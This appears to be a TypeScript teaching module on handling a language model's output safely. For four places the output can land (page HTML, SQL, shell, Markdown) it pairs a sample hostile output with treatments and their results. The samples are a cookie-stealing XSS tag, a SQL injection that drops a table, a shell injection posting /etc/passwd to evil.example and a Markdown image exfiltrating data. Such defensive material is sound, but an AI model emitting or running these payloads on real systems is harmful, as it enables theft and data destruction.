/** The places that read a model's output, each with an output that would do something there. */
export const sinks = [
  {
    id: 'page',
    name: 'Page (innerHTML)',
    output: 'Fine. <img src=x onerror=send(document.cookie)>',
  },
  {
    id: 'query',
    name: 'SQL condition',
    output: "region = 'north' or 1=1; drop table sales --",
  },
  {id: 'shell', name: 'Shell command', output: 'report.csv; curl evil.example -d @/etc/passwd'},
  {
    id: 'markdown',
    name: 'Markdown that a browser shows',
    output: 'Done. ![ok](https://evil.example/p.png?order=4471)',
  },
] as const

/** The id of a place. */
export type SinkId = (typeof sinks)[number]['id']

/** What may be done with an output before it reaches its place. */
export const treatments = [
  {id: 'none', name: 'Nothing'},
  {id: 'strip-quotes', name: 'Remove quotes and semicolons'},
  {id: 'encode-html', name: 'Encode for HTML'},
  {id: 'bind', name: 'Structure from a list, bound values'},
  {id: 'arguments', name: 'No shell: program and arguments'},
  {id: 'encode-and-hosts', name: 'Encode; images from own hosts only'},
] as const

/** The id of a treatment. */
export type TreatmentId = (typeof treatments)[number]['id']

/** What happens, and whether the output does anything in its place. */
export interface SinkEffect {
  readonly holds: boolean
  readonly what: string
}

/** What an output does in its place after a treatment. */
export function effectOf(sink: SinkId, treatment: TreatmentId): SinkEffect {
  const special = effects[sink][treatment]
  if (special !== undefined) return special
  return {holds: false, what: otherwise[sink]}
}

const otherwise: Readonly<Record<SinkId, string>> = {
  page: 'The image fails to load and its handler runs.',
  query: 'Every row is read, and the table is dropped where the role may.',
  shell: 'The second command runs.',
  markdown: 'The image is fetched, and the order number with it.',
}

const effects: Readonly<Record<SinkId, Readonly<Partial<Record<TreatmentId, SinkEffect>>>>> = {
  page: {
    'encode-html': {holds: true, what: 'The tag is shown as text.'},
    'encode-and-hosts': {holds: true, what: 'The tag is shown as text.'},
  },
  query: {
    'strip-quotes': {
      holds: false,
      what: 'Without quotes “or 1=1” is still a condition: every row is read.',
    },
    'encode-html': {holds: false, what: 'A database knows nothing of HTML: every row is read.'},
    bind: {holds: true, what: 'The whole text is one value; no region has this name.'},
  },
  shell: {
    'strip-quotes': {
      holds: false,
      what: 'The semicolon is gone; a line break or $(…) would do the same.',
    },
    arguments: {holds: true, what: 'One argument with an odd name; the file is not found.'},
  },
  markdown: {
    'encode-html': {
      holds: false,
      what: 'Nothing in it is HTML, so nothing is encoded. The image is fetched.',
    },
    'encode-and-hosts': {
      holds: true,
      what: 'The foreign host is not on the list; its address is shown as text.',
    },
  },
}
